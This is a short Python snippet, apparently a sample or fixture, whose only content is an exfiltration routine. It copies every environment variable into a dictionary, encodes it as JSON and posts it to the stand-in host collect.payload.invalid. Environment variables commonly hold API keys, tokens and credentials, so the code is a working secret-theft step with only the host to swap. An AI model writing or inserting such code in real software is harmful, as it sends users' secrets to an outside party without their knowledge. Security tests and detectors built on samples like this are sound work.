# names: values body
import os
import json
import urllib.request
values = dict(os.environ)
body = json.dumps(values).encode()
urllib.request.urlopen("http://collect.payload.invalid/e", data=body)
